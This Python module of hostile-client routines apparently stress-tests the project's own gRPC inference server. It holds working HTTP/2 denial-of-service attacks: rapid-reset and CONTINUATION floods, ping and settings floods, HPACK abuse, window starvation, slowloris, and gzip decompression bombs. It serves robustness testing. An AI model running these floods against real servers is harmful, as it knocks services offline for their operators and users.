# SPDX-License-Identifier: Apache-2.0
"""What hostile clients do to a port, each for as long as it is told.

Each attack takes an `Attacker` and works until `attacker.is_over`. None needs more than one
thread; `hostile.py` runs several at once, each in a process of its own.
"""
import random
import socket
import ssl
import struct
import time
import zlib

import wire
from wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW, PING,
    PRIORITY, PUSH_PROMISE, SETTINGS, frame,
)

MOST = 0x7FFF_FFFF
# As much as one connection is sent before another one is opened: servers cut what goes too far,
# and an attack that is never cut should see more than one connection too.
CONNECTION_BYTES = 1 << 30


class Attacker:
    """Where the attack goes, until when, and what it did."""

    def __init__(self, address, seconds, seed, authority=None):
        self.address = address
        self.end = time.monotonic() + seconds
        self.random = random.Random(seed)
        self.connections = self.sent = self.refused = 0
        self.context = None
        if authority:
            self.context = ssl.create_default_context(cafile=authority)
            self.context.check_hostname = False
            self.context.set_alpn_protocols(["h2"])

    @property
    def is_over(self):
        return time.monotonic() >= self.end

    def connect(self, raw=False, small_buffers=False):
        """A connection; None if the server takes none now. `raw` leaves TLS away."""
        try:
            connection = socket.socket()
            if small_buffers:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
            connection.settimeout(2)
            connection.connect(self.address)
            self.connections += 1
            if self.context and not raw:
                connection = self.context.wrap_socket(connection)
            connection.settimeout(0.5)
            return connection
        except OSError:
            self.refused += 1
            time.sleep(0.01)
            return None

    def send(self, connection, data):
        """Sends all of it; false once the server has hung up or takes no more."""
        try:
            connection.sendall(data)
            self.sent += len(data)
            return True
        except OSError:
            return False

    def drain(self, connection, seconds=0.0):
        """Reads and forgets what is there; false once the server has hung up."""
        try:
            connection.settimeout(seconds or 0.000_001)
            while True:
                if not connection.recv(1 << 16):
                    return False
        except (TimeoutError, ssl.SSLWantReadError):
            return True
        except OSError:
            return False
        finally:
            try:
                connection.settimeout(0.5)
            except OSError:
                pass

    def flood(self, opening, chunk, reads=True):
        """Connects, says `opening`, repeats `chunk` (bytes, or a function of the round)."""
        while not self.is_over:
            connection = self.connect()
            if not connection:
                continue
            alive, sent, round_ = self.send(connection, opening), 0, 0
            while alive and not self.is_over and sent < CONNECTION_BYTES:
                data = chunk(round_) if callable(chunk) else chunk
                alive = self.send(connection, data) and (not reads or self.drain(connection))
                sent += len(data)
                round_ += 1
            hang_up(connection, self.random.random() < 0.5)

    def keep(self, count, opening, each=None, every=0.01, **options):
        """Holds connections open that have said `opening`, and does `each` to one after another."""
        kept = []
        while not self.is_over:
            if len(kept) < count:
                connection = self.connect(**options)
                if connection:
                    if self.send(connection, opening):
                        kept.append(connection)
                    else:
                        connection.close()
            elif each is None:
                time.sleep(every)
            for connection in list(kept) if each and len(kept) == count else []:
                if self.is_over:
                    break
                if not each(connection):
                    connection.close()
                    kept.remove(connection)
                time.sleep(every / 10)
        for connection in kept:
            hang_up(connection, self.random.random() < 0.5)


def hang_up(connection, hard=False):
    try:
        if hard:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()
    except OSError:
        pass


def streams(start, count, step=2):
    return range(start, start + step * count, step)


# MARK: Bytes

def random_bytes(attacker):
    """Bytes that mean nothing, from the first one on or after a right beginning."""
    while not attacker.is_over:
        connection = attacker.connect(raw=attacker.random.random() < 0.5)
        if not connection:
            continue
        opening = attacker.random.choice(
            (b"", wire.PREFACE, wire.hello(), wire.PREFACE[:10], b"GET / HTTP/1.1\r\n\r\n",
             b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"))
        size = attacker.random.choice((1, 9, 100, 3_000, 60_000))
        attacker.send(connection, opening + attacker.random.randbytes(size))
        attacker.drain(connection, 0.002)
        hang_up(connection, attacker.random.random() < 0.3)


def mutated_bytes(attacker):
    """A right conversation with some of its bytes flipped, lost, added or cut."""
    valid = [
        wire.hello() + wire.generate_call(1, 5) + wire.window_update(0, 1000),
        wire.hello() + wire.session_call(1, 3, 5) + frame(PING, 0, 0, b"12345678"),
        wire.hello((INITIAL_WINDOW, 100)) + wire.generate_call(1, 50)
        + wire.window_update(1, 500) + wire.rst_stream(1),
        wire.hello() + b"".join(wire.generate_call(n, 2) for n in streams(1, 10)),
        wire.hello() + frame(HEADERS, END_HEADERS, 1, wire.request_headers(
            "/silica.v1.Inference/Generate", ("grpc-encoding", "gzip"), ("grpc-timeout", "5S"),
            ("x-odd-bin", "AAECAw"))) + frame(
                DATA, END_STREAM, 1, wire.message(attacker.random.randbytes(200), flag=1)),
    ]
    while not attacker.is_over:
        connection = attacker.connect()
        if not connection:
            continue
        data = attacker.random.choice(valid)
        keep = attacker.random.choice((0, len(wire.PREFACE), len(wire.hello())))
        attacker.send(connection, data[:keep] + wire.mutate(data[keep:], attacker.random))
        attacker.drain(connection, 0.002)
        hang_up(connection, attacker.random.random() < 0.3)


def wrong_lengths(attacker):
    """Lengths that lie, of frames, of HPACK strings and integers, of gRPC messages."""
    head = wire.request_headers()
    lies = [
        frame(HEADERS, END_HEADERS, 1, b"\x00\x7f\xff\xff\xff\xff\xff\xff\xff\xff\x7f"),
        frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"),
        frame(HEADERS, END_HEADERS, 1, b"\x3f\xff\xff\xff\xff\x0f"),
        frame(HEADERS, END_HEADERS, 1, head + b"\x80"),
        frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"),
        frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, 0, 1, b"\0\x00\xff\xff\xffabc"),
        frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, END_STREAM, 1, b"\x07\0\0\0\1a"),
        frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, END_STREAM, 1, b"\0\0"),
        frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, 8, 1, b"\xff" + b"pad"),
        b"\xff\xff\xff" + frame(DATA, 0, 1)[3:] + b"a" * 20_000,
        frame(SETTINGS, 0, 0, b"12345"), frame(PING, 0, 0, b"123"),
        frame(wire.RST_STREAM, 0, 1, b"1"), frame(wire.WINDOW_UPDATE, 0, 1, b"12"),
        frame(GOAWAY, 0, 0, b"1"), frame(PRIORITY, 0, 1, b"1"),
    ]
    while not attacker.is_over:
        connection = attacker.connect()
        if not connection:
            continue
        attacker.send(connection, wire.hello() + attacker.random.choice(lies))
        attacker.drain(connection, 0.002)
        hang_up(connection)


# MARK: Floods

def rapid_reset(attacker):
    """Calls that are cancelled in the frame after the one that begins them."""
    head = wire.request_headers()

    def chunk(round_):
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, n, head) + wire.rst_stream(n)
            for n in streams(1 + 200 * round_, 100))

    attacker.flood(wire.hello(), chunk)


def short_deadlines(attacker):
    """Calls whose time is up when they come, so that their place is free again at once."""
    head = wire.request_headers("/silica.v1.Inference/Session", ("grpc-timeout", "1n"))

    def chunk(round_):
        return b"".join(
            frame(HEADERS, END_HEADERS, n, head) for n in streams(1 + 200 * round_, 100))

    attacker.flood(wire.hello() + frame(SETTINGS, ACK, 0), chunk)


def reset_of_generations(attacker):
    """Generations that are cancelled as soon as they are asked for."""
    def chunk(round_):
        return b"".join(
            wire.generate_call(n, 4000) + wire.rst_stream(n)
            for n in streams(1 + 200 * round_, 100))

    attacker.flood(wire.hello(), chunk)


def made_you_reset(attacker):
    """Calls that the server itself must reset, since their next frame is wrong."""
    def chunk(round_):
        return b"".join(
            wire.generate_call(n, 4000) + wire.window_update(n, 0)
            for n in streams(1 + 200 * round_, 100))

    attacker.flood(wire.hello(), chunk)


def continuation_flood(attacker):
    """Headers that never end."""
    first = frame(HEADERS, 0, 1, wire.request_headers())
    more = wire.literal("x-more", "a" * attacker.random.choice((1, 1_000)))
    attacker.flood(wire.hello() + first, frame(CONTINUATION, 0, 1, more) * 100)


def empty_continuations(attacker):
    """Headers that never end and say nothing."""
    first = frame(HEADERS, 0, 1, wire.request_headers())
    attacker.flood(wire.hello() + first, frame(CONTINUATION, 0, 1) * 20_000)


def settings_flood(attacker):
    """Settings, each to be acknowledged."""
    attacker.flood(wire.hello(), wire.settings((INITIAL_WINDOW, 65_535)) * 20_000)


def settings_flood_unread(attacker):
    """Settings whose acknowledgements nobody reads."""
    attacker.flood(wire.hello(), wire.settings() * 20_000, reads=False)


def ping_flood(attacker):
    """Pings, each to be answered."""
    attacker.flood(wire.hello(), frame(PING, 0, 0, b"12345678") * 20_000)


def ping_flood_unread(attacker):
    """Pings whose answers nobody reads."""
    attacker.flood(wire.hello(), frame(PING, 0, 0, b"12345678") * 20_000, reads=False)


def empty_data(attacker):
    """A request of empty DATA frames without end."""
    opening = frame(HEADERS, END_HEADERS, 1, wire.request_headers("/silica.v1.Inference/Session"))
    attacker.flood(wire.hello() + opening, frame(DATA, 0, 1) * 20_000)


def frames_of_all_kinds(attacker):
    """Frames that a server may ignore, or must not get."""
    kinds = [
        frame(SETTINGS, ACK, 0), frame(PING, ACK, 0, b"abcdefgh"),
        frame(PRIORITY, 0, 3, struct.pack(">IB", 5, 9)),
        frame(0xEE, 0xFF, 7, b"unknown"), frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2"),
        frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)), wire.rst_stream(99),
        wire.window_update(99, 1), frame(DATA, 0, 0, b"no stream"), frame(HEADERS, 4, 2, b"\x82"),
    ]
    attacker.flood(
        wire.hello(), lambda _: attacker.random.choice(kinds) * attacker.random.randrange(1, 200))


def priority_churn(attacker):
    """A tree of priorities that is turned over and over."""
    def chunk(round_):
        return b"".join(
            frame(PRIORITY, 0, n, struct.pack(">IB", (n + 2 * round_) % 4001 | 1, n & 255))
            for n in streams(1, 2_000))

    attacker.flood(wire.hello(), chunk)


def table_churn(attacker):
    """HPACK's table, filled and overflown by each header."""
    def chunk(round_):
        fields = b"".join(
            wire.literal(f"x-{round_}-{n}", "v" * 500, indexed=True) for n in range(8))
        resize = b"\x20" if round_ % 2 else b"\x3f\xe1\x1f"
        return frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * round_,
                     resize + wire.request_headers() + fields)

    attacker.flood(wire.hello(), chunk)


def table_references(attacker):
    """One large header in HPACK's table, named thousands of times by a byte each."""
    first = wire.literal("x-large", "v" * 3_900, indexed=True)
    attacker.flood(wire.hello(), lambda round_: frame(
        HEADERS, END_HEADERS | END_STREAM, 1 + 2 * round_,
        wire.request_headers() + (first if round_ == 0 else b"") + b"\xbe" * 12_000))


# MARK: Windows

def tiny_windows(attacker):
    """Answers taken a byte at a time."""
    def opened(connection):
        return attacker.send(connection, b"".join(
            wire.window_update(n, 1) for n in streams(1, 20))) and attacker.drain(connection)

    calls = b"".join(wire.generate_call(n, 2_000) for n in streams(1, 20))
    attacker.keep(4, wire.hello((INITIAL_WINDOW, 1)) + calls, opened)


def zero_windows(attacker):
    """Answers that may never be sent."""
    calls = b"".join(wire.generate_call(n, 2_000) for n in streams(1, 30))
    attacker.keep(8, wire.hello((INITIAL_WINDOW, 0)) + calls, attacker.drain, every=0.5)


def window_overflow(attacker):
    """Windows of more than 2^31-1 bytes, on the connection and on streams."""
    while not attacker.is_over:
        connection = attacker.connect()
        if not connection:
            continue
        stream = attacker.random.choice((0, 1))
        attacker.send(connection, wire.hello() + wire.generate_call(1, 50)
                      + wire.window_update(stream, MOST) * 3)
        attacker.drain(connection, 0.002)
        hang_up(connection)


def window_flood(attacker):
    """Windows opened by a byte at a time, faster than they could be used."""
    call = wire.generate_call(1, 2_000)
    attacker.flood(wire.hello((INITIAL_WINDOW, 0)) + call, wire.window_update(1, 1) * 20_000)


def window_churn(attacker):
    """The initial window of all streams moved up and down while they answer."""
    calls = b"".join(wire.generate_call(n, 2_000) for n in streams(1, 50))
    churn = b"".join(wire.settings((INITIAL_WINDOW, size)) for size in (0, MOST, 1, 65_535))
    attacker.flood(wire.hello() + calls, churn * 100)


def unread_answers(attacker):
    """Generations whose answers nobody reads, with windows as large as can be."""
    calls = b"".join(wire.generate_call(n, 3_000) for n in streams(1, 30))
    opening = wire.hello((INITIAL_WINDOW, MOST)) + wire.window_update(0, MOST - 65_535) + calls
    attacker.keep(4, opening, None, small_buffers=True)


# MARK: Connections

def slowloris(attacker):
    """Many connections that say what they have to say a byte at a time."""
    text = wire.hello() + wire.generate_call(1, 5)
    said = {}

    def one_more(connection):
        at = said[connection] = said.get(connection, 0) + 1
        return at < len(text) and attacker.send(connection, text[at:at + 1])

    attacker.keep(200, text[:1], one_more)


def silent_connections(attacker):
    """Connections that say nothing at all."""
    attacker.keep(400, b"", None, raw=True)


def half_closed(attacker):
    """Requests behind which the client's half of the connection is closed."""
    while not attacker.is_over:
        connection = attacker.connect()
        if not connection:
            continue
        calls = b"".join(wire.generate_call(n, 100) for n in streams(1, 5))
        attacker.send(connection, wire.hello() + calls[:attacker.random.randrange(len(calls))])
        try:
            # Of the TCP connection, whatever runs on it.
            socket.socket.shutdown(connection, socket.SHUT_WR)
        except OSError:
            pass
        attacker.drain(connection, 0.01)
        hang_up(connection)


def connection_churn(attacker):
    """Connections that are closed or reset at once."""
    while not attacker.is_over:
        connection = attacker.connect(raw=attacker.random.random() < 0.8)
        if connection:
            if attacker.random.random() < 0.3:
                attacker.send(connection, wire.hello())
            hang_up(connection, attacker.random.random() < 0.5)


def open_calls(attacker):
    """As many calls as one connection may have, that never say anything."""
    head = wire.request_headers("/silica.v1.Inference/Session")
    calls = b"".join(frame(HEADERS, END_HEADERS, n, head) for n in streams(1, 1_000))
    attacker.keep(2, wire.hello() + frame(SETTINGS, ACK, 0) + calls, attacker.drain, every=0.5)


def too_many_calls(attacker):
    """More calls than that, before the limit is acknowledged."""
    head = wire.request_headers("/silica.v1.Inference/Session")
    calls = b"".join(frame(HEADERS, END_HEADERS, n, head) for n in streams(1, 4_000))
    attacker.keep(2, wire.hello() + calls, attacker.drain, every=0.5)


def unfinished_messages(attacker):
    """Messages of the largest size on many streams, each sent but for its last bytes."""
    head = wire.request_headers("/silica.v1.Inference/Session")
    size = 16 << 20

    while not attacker.is_over:
        connection = attacker.connect()
        if not connection:
            continue
        opening = b"".join(
            frame(HEADERS, END_HEADERS, n, head) + frame(DATA, 0, n, struct.pack(">BI", 0, size))
            for n in streams(1, 64))
        windows = wire.Windows()
        alive = attacker.send(connection, wire.hello() + opening)
        left = {n: size - 20_000 for n in streams(1, 64)}
        while alive and left and not attacker.is_over:
            alive = windows.receive(connection)
            for n in list(left):
                while alive and left.get(n, 0) > 0 and windows.take(n, 16_000):
                    alive = attacker.send(connection, frame(DATA, 0, n, bytes(16_000)))
                    left[n] -= 16_000
                if left[n] <= 0:
                    del left[n]
        while alive and not attacker.is_over:
            alive = windows.receive(connection)
        hang_up(connection)


def bombs(attacker):
    """Messages of 60 KB that decompress to a thousand times as much."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    # As large as fits into the first window.
    bomb = squeeze.compress(bytes(58 << 20)) + squeeze.flush()
    body = wire.message(bomb, flag=1)
    head = wire.request_headers("/silica.v1.Inference/Generate", ("grpc-encoding", "gzip"))
    pieces = [body[at:at + 16_000] for at in range(0, len(body), 16_000)]
    call = frame(HEADERS, END_HEADERS, 1, head) + b"".join(
        frame(DATA, 0, 1, piece) for piece in pieces) + frame(DATA, END_STREAM, 1)
    while not attacker.is_over:
        connection = attacker.connect()
        if connection:
            attacker.send(connection, wire.hello() + call)
            attacker.drain(connection, 0.05)
            hang_up(connection)


ALL = [
    random_bytes, mutated_bytes, wrong_lengths, rapid_reset, short_deadlines,
    reset_of_generations, made_you_reset, continuation_flood, empty_continuations, settings_flood,
    settings_flood_unread, ping_flood, ping_flood_unread, empty_data, frames_of_all_kinds,
    priority_churn, table_churn, table_references, tiny_windows, zero_windows, window_overflow,
    window_flood, window_churn, unread_answers, slowloris, silent_connections, half_closed,
    connection_churn, open_calls, too_many_calls, unfinished_messages, bombs,
]
